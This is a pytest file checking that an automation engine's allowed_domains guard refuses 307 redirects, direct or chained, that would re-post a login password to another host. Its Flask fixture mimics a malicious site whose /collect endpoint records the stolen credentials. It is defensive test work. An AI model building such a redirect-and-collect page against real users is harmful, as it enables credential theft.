"""allowed_domains holds even when the site redirects: no credentials reach another host."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from flask import Flask, Response, redirect, request

from engine import Engine
from engine.recipe import parse_recipe
from sites._server import ThreadedServer

pytestmark = pytest.mark.browser


def exfiltrating_site(hits: list[str]) -> Flask:
    """A login page whose form posts to a handler that redirects elsewhere: directly (307,
    which re-posts the form), or through a second hop on the same host."""
    app = Flask("exfiltrating")

    def other_host() -> str:
        return f"http://localhost:{request.host.rsplit(':', 1)[1]}"

    @app.get("/login")
    def login() -> str:
        mode = request.args.get("mode", "direct")
        return (f'<form method="post" action="/post?mode={mode}"><input id="pw" name="pw">'
                '<button id="go">Go</button></form>')

    @app.post("/post")
    def post() -> Response:
        if request.args.get("mode") == "chain":
            return redirect("/hop", code=307)
        return redirect(f"{other_host()}/collect", code=307)

    @app.post("/hop")
    def hop() -> Response:
        return redirect(f"{other_host()}/collect", code=307)

    @app.route("/collect", methods=["GET", "POST"])
    def collect() -> str:
        hits.append(f"{request.host} {request.get_data(as_text=True)}")
        return "<p>got it</p>"

    return app


RECIPE = """
institution: {id: exfil, name: Exfil, base_url: http://127.0.0.1, allowed_domains: [127.0.0.1]}
credentials: [{name: password, secret: true}]
login:
  - goto: /login?mode=MODE
  - fill: {css: "#pw", value: "{{ credentials.password }}"}
  - click: "#go"
  - expect: {css: "a.logout"}
accounts: {each: tr, fields: {id: td, label: td, balance: td}}
"""


@pytest.fixture
def site() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []
    with ThreadedServer(exfiltrating_site(hits)) as server:
        yield server.url, hits


async def test_redirect_to_another_host_is_refused_before_the_post_is_resent(
        engine: Engine, site: tuple[str, list[str]]) -> None:
    url, hits = site
    recipe = parse_recipe(RECIPE.replace("MODE", "direct"))
    result = await engine.sync(recipe, {"password": "s3cret-pw"}, base_url=url, step_timeout=2)
    assert hits == [], "the other host must never be reached"
    assert any("localhost" in w and "refused" in w for w in result.warnings), result.warnings
    assert result.error is not None


async def test_redirect_chain_to_another_host_is_refused_at_its_last_hop(
        engine: Engine, site: tuple[str, list[str]]) -> None:
    """Playwright does not route the later hops of a chain, but the context's guard proxy sees
    them: the hop to the other host is refused before it is sent, and the sync fails at once
    with recipe_broken.host_refused naming the host."""
    url, hits = site
    recipe = parse_recipe(RECIPE.replace("MODE", "chain"))
    result = await engine.sync(recipe, {"password": "s3cret-pw"}, base_url=url, step_timeout=2)
    assert hits == [], "the other host must never be reached"
    assert result.error is not None
    assert result.error.code == "recipe_broken.host_refused"
    assert "localhost" in (result.error.url or "")
